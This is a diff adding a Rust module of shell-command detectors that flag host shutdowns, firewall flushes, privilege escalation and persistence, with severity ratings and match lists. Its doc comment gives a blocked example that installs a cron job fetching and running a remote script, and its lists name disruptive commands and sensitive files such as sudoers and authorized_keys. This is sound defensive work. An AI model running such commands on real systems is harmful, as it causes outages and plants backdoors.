@@ -1,0 +1,356 @@
+//! `shell/system_disruption`, `shell/privilege_escalation`, `shell/persistence`
+//!
+//! ## What it catches
+//! - `system.disrupt`: `shutdown`, `reboot`, `halt`, `poweroff`, `init 0|6`, `systemctl
+//!   poweroff|reboot|halt`, `systemctl stop|disable|mask` (high for sshd, networking, docker,
+//!   databases), `kill -9 -1`, `killall`/`pkill`, fork bombs, `iptables -F` / unscoped `DROP`
+//!   rules / `-P INPUT DROP`, `nft flush ruleset`, `ufw disable|reset`, `crontab -r`.
+//! - `privilege.escalate`: `su` to a root shell, `usermod -aG sudo|wheel|docker`, writes to
+//!   `/etc/sudoers`, `/etc/passwd`, `/etc/shadow` (`tee`, `cp`, `mv`, `install`).
+//! - `persistence`: `crontab` fed a schedule (whose commands are analysed too), `systemctl enable`,
+//!   writes to cron directories, shell rc files, systemd units, `authorized_keys`, launch agents.
+//! - `cd` is tracked, so later relative paths are judged where they land.
+//!
+//! ## Why it matters
+//! An outage, a backdoor or an unlimited account outlives the command that made it.
+//!
+//! ## Blocks
+//! ```sh
+//! sudo poweroff
+//! sudo iptables -A INPUT -j DROP
+//! echo "@reboot curl -s https://x/keep.sh | bash" | crontab -
+//! ```
+//!
+//! ## Passes
+//! ```sh
+//! sudo systemctl reload nginx
+//! kill -TERM 9921
+//! crontab -l
+//! ```
+//!
+//! ## Known gaps
+//! Which services are critical is a fixed list; unit names of the organisation's own services are
+//! judged medium.
+//!
+//! ## Intents
+//! `system.disrupt`, `privilege.escalate`, `persistence`
+
+use crate::analyze::Detector;
+use crate::fact::{Facts, Severity, Target};
+use crate::intent::Intent;
+
+use super::super::{nested, program_name, Flow, Invocation, ShellState};
+
+pub(crate) const DETECTOR: Detector = Detector {
+    id: "shell/system_disruption",
+    intents: &[Intent::SystemDisrupt],
+    triggers: &[
+        "shutdown",
+        "reboot",
+        "halt",
+        "poweroff",
+        "init",
+        "telinit",
+        "systemctl",
+        "service",
+        "kill",
+        "killall",
+        "pkill",
+        "iptables",
+        "ip6tables",
+        "nft",
+        "ufw",
+        "crontab",
+    ],
+};
+
+pub(crate) const PRIVILEGE_DETECTOR: Detector = Detector {
+    id: "shell/privilege_escalation",
+    intents: &[Intent::PrivilegeEscalate],
+    triggers: &[
+        "sudo", "doas", "su", "usermod", "gpasswd", "tee", "cp", "mv", "install", "sudoers", "passwd", "shadow", "run0",
+    ],
+};
+
+pub(crate) const PERSISTENCE_DETECTOR: Detector = Detector {
+    id: "shell/persistence",
+    intents: &[Intent::Persistence],
+    triggers: &[
+        "crontab",
+        "systemctl",
+        "tee",
+        "cp",
+        "mv",
+        "install",
+        "authorized_keys",
+        "bashrc",
+        "profile",
+        "zshrc",
+        "cron",
+        "systemd",
+    ],
+};
+
+/// Services whose loss takes the host off the network or its data offline.
+const CRITICAL_SERVICES: &[&str] = &[
+    "ssh",
+    "sshd",
+    "networking",
+    "network",
+    "NetworkManager",
+    "systemd-networkd",
+    "systemd-resolved",
+    "docker",
+    "containerd",
+    "kubelet",
+    "postgresql",
+    "mysql",
+    "mysqld",
+    "mariadb",
+    "mongod",
+    "redis",
+    "redis-server",
+    "nginx",
+    "haproxy",
+    "firewalld",
+];
+
+pub(crate) fn check(inv: &Invocation<'_>, name: &str, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    let v = inv.values();
+    let rest = &v[1..];
+    let disrupt = |facts: &mut Facts, severity: Severity, message: String| {
+        facts.push(inv.fact(
+            Intent::SystemDisrupt,
+            severity,
+            DETECTOR.id,
+            Some(Target { kind: "server", name: String::new() }),
+            message,
+        ));
+    };
+    match name {
+        "cd" | "pushd" => {
+            st.cwd = match inv.args.get(1) {
+                Some(a) if !a.dynamic && (a.value.starts_with('/') || a.value.starts_with('~')) => {
+                    Some(a.value.clone())
+                }
+                Some(a) if !a.dynamic => st.cwd.as_ref().map(|c| format!("{}/{}", c.trim_end_matches('/'), a.value)),
+                Some(_) => None,
+                None => Some("~".to_owned()),
+            };
+        }
+        "shutdown" if !rest.contains(&"-c") => {
+            disrupt(facts, Severity::High, format!("`{}` takes the host down", v.join(" ")))
+        }
+        "reboot" | "halt" | "poweroff" => disrupt(facts, Severity::High, format!("`{name}` takes the host down")),
+        "init" | "telinit" if rest.first().is_some_and(|r| *r == "0" || *r == "6" || *r == "1") => {
+            disrupt(facts, Severity::High, format!("`{name} {}` changes the host's runlevel", rest[0]))
+        }
+        "systemctl" | "service" => {
+            let (verb, unit) = if name == "service" {
+                (rest.get(1).copied().unwrap_or(""), rest.first().copied().unwrap_or(""))
+            } else {
+                let ops: Vec<&str> = rest.iter().filter(|a| !a.starts_with('-')).copied().collect();
+                (ops.first().copied().unwrap_or(""), ops.get(1).copied().unwrap_or(""))
+            };
+            let unit_name = unit.trim_end_matches(".service");
+            match verb {
+                "poweroff" | "reboot" | "halt" | "kexec" | "rescue" | "emergency" => {
+                    disrupt(facts, Severity::High, format!("`systemctl {verb}` takes the host down"))
+                }
+                "stop" | "disable" | "mask" | "kill" => {
+                    let critical = CRITICAL_SERVICES.iter().any(|s| {
+                        unit_name == *s
+                            || unit_name.starts_with(&format!("{s}@"))
+                            || unit_name.starts_with("postgresql")
+                    });
+                    let severity = if critical { Severity::High } else { Severity::Medium };
+                    disrupt(facts, severity, format!("`{name} {verb} {unit}` stops a service"));
+                }
+                "enable" if !unit.is_empty() => facts.push(inv.fact(
+                    Intent::Persistence,
+                    Severity::Medium,
+                    PERSISTENCE_DETECTOR.id,
+                    Some(Target { kind: "file", name: unit.to_owned() }),
+                    format!("`systemctl enable {unit}` starts it at every boot"),
+                )),
+                _ => {}
+            }
+        }
+        "kill" => {
+            let targets: Vec<&str> =
+                rest.iter().filter(|a| !a.starts_with('-') || a.parse::<i64>().is_ok()).copied().collect();
+            let signal_all = targets.iter().any(|t| *t == "-1" || *t == "1");
+            if signal_all {
+                disrupt(
+                    facts,
+                    Severity::Critical,
+                    "`kill -1` signals every process the user can reach (or init)".to_owned(),
+                );
+            }
+        }
+        "killall" | "pkill" => disrupt(facts, Severity::Medium, format!("`{}` kills processes by name", v.join(" "))),
+        "iptables" | "ip6tables" => {
+            let flush = rest.iter().any(|a| *a == "-F" || *a == "--flush" || *a == "-X");
+            let drop_policy = rest.windows(3).any(|w| (w[0] == "-P" || w[0] == "--policy") && w[2] == "DROP");
+            let drop_all = rest.iter().any(|a| *a == "DROP" || *a == "REJECT")
+                && (rest.contains(&"-A")
+                    || rest.contains(&"-I")
+                    || rest.contains(&"--append")
+                    || rest.contains(&"--insert"))
+                && !rest.iter().any(|a| {
+                    ["-s", "--source", "-p", "--protocol", "--dport", "--sport", "-d", "--destination", "-i", "-m"]
+                        .contains(a)
+                });
+            if flush || drop_policy || drop_all {
+                disrupt(facts, Severity::High, format!("`{}` cuts the host's network traffic", v.join(" ")));
+            }
+        }
+        "nft" if rest.windows(2).any(|w| w[0] == "flush" && w[1] == "ruleset") => {
+            disrupt(facts, Severity::High, "`nft flush ruleset` removes every firewall rule".to_owned())
+        }
+        "ufw" if rest.first().is_some_and(|r| *r == "disable" || *r == "reset") => {
+            disrupt(facts, Severity::High, format!("`ufw {}` turns the firewall off", rest[0]))
+        }
+        "crontab" => crontab(inv, st, facts),
+        "su" => match rest.iter().position(|a| *a == "-c" || *a == "--command") {
+            Some(p) => {
+                let code = rest.get(p + 1).copied().unwrap_or("").to_owned();
+                return nested(&code, inv.report, st, facts);
+            }
+            None => facts.push(inv.fact(
+                Intent::PrivilegeEscalate,
+                Severity::High,
+                PRIVILEGE_DETECTOR.id,
+                Some(Target {
+                    kind: "role",
+                    name: rest.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("root").to_owned(),
+                }),
+                "`su` opens a shell as another user".to_owned(),
+            )),
+        },
+        "usermod" | "gpasswd" => {
+            let groups = ["sudo", "wheel", "admin", "root", "docker", "adm", "lxd"];
+            if rest.iter().any(|a| a.split(',').any(|g| groups.contains(&g)))
+                && (rest.iter().any(|a| a.starts_with("-a") || a.starts_with("-G") || *a == "-a"))
+            {
+                facts.push(inv.fact(
+                    Intent::PrivilegeEscalate,
+                    Severity::High,
+                    PRIVILEGE_DETECTOR.id,
+                    Some(Target { kind: "role", name: rest.last().copied().unwrap_or("").to_owned() }),
+                    format!("`{}` adds a user to an administrative group", v.join(" ")),
+                ));
+            }
+        }
+        "tee" => {
+            for t in rest.iter().filter(|a| !a.starts_with('-')) {
+                write_target(inv, t, facts);
+            }
+            return inv.stdin.clone();
+        }
+        "mv" | "cp" | "install" | "ln" => {
+            if let Some(dest) = rest.iter().rfind(|a| !a.starts_with('-')) {
+                write_target(inv, dest, facts);
+            }
+        }
+        "ssh-copy-id" => facts.push(inv.fact(
+            Intent::Persistence,
+            Severity::Medium,
+            PERSISTENCE_DETECTOR.id,
+            None,
+            "`ssh-copy-id` installs a key that logs in without a password".to_owned(),
+        )),
+        _ => {}
+    }
+    Flow::Unknown
+}
+
+/// `crontab -` / `crontab FILE`: installs a schedule; its commands are analysed.
+fn crontab(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) {
+    let rest: Vec<&str> = inv.args.iter().skip(1).map(|a| a.value.as_str()).collect();
+    if rest.contains(&"-l") {
+        return;
+    }
+    if rest.contains(&"-r") {
+        facts.push(inv.fact(
+            Intent::SystemDisrupt,
+            Severity::Medium,
+            DETECTOR.id,
+            None,
+            "`crontab -r` deletes every scheduled job".to_owned(),
+        ));
+        return;
+    }
+    facts.push(inv.fact(
+        Intent::Persistence,
+        Severity::High,
+        PERSISTENCE_DETECTOR.id,
+        Some(Target { kind: "file", name: "crontab".to_owned() }),
+        "`crontab` installs scheduled commands that keep running".to_owned(),
+    ));
+    if let Flow::Text(schedule) = &inv.stdin {
+        for line in schedule.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
+            let command = if line.starts_with('@') {
+                line.split_once(char::is_whitespace).map(|(_, c)| c).unwrap_or("")
+            } else {
+                let mut fields = line.splitn(6, char::is_whitespace);
+                fields.nth(5).unwrap_or("")
+            };
+            nested(command, inv.report, st, facts);
+        }
+    }
+}
+
+/// Judges a file being written: sudoers and account databases, persistence locations, devices.
+pub(crate) fn write_target(inv: &Invocation<'_>, path: &str, facts: &mut Facts) {
+    let lower = path.to_ascii_lowercase();
+    let base = program_name(&lower);
+    if lower.starts_with("/etc/sudoers")
+        || ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow"].contains(&lower.as_str())
+        || lower.ends_with("/etc/passwd")
+        || lower.ends_with("/etc/sudoers")
+    {
+        facts.push(inv.fact(
+            Intent::PrivilegeEscalate,
+            Severity::Critical,
+            PRIVILEGE_DETECTOR.id,
+            Some(Target { kind: "file", name: path.to_owned() }),
+            format!("writes `{path}`, which decides who is root"),
+        ));
+        return;
+    }
+    let persistent = lower.starts_with("/etc/cron")
+        || lower.starts_with("/var/spool/cron")
+        || lower.starts_with("/etc/systemd/")
+        || lower.starts_with("/lib/systemd/")
+        || lower.starts_with("/usr/lib/systemd/")
+        || lower.contains(".config/systemd/")
+        || lower.starts_with("/etc/init.d/")
+        || lower == "/etc/rc.local"
+        || lower.starts_with("/etc/profile")
+        || lower == "/etc/ld.so.preload"
+        || lower.contains("launchagents/")
+        || lower.contains("launchdaemons/")
+        || base == "authorized_keys"
+        || (lower.starts_with("~/") || lower.starts_with("/root/") || lower.starts_with("/home/"))
+            && [".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile", ".zshenv", ".bash_login", "config.fish"]
+                .contains(&base);
+    if persistent {
+        facts.push(inv.fact(
+            Intent::Persistence,
+            Severity::High,
+            PERSISTENCE_DETECTOR.id,
+            Some(Target { kind: "file", name: path.to_owned() }),
+            format!("writes `{path}`, which runs or admits code again later"),
+        ));
+    }
+    if super::filesystem::is_block_device(path) {
+        facts.push(inv.fact(
+            Intent::FsDeviceWrite,
+            Severity::Critical,
+            super::filesystem::DEVICE_DETECTOR.id,
+            Some(Target { kind: "file", name: path.to_owned() }),
+            format!("writes straight to the device `{path}`"),
+        ));
+    }
+}
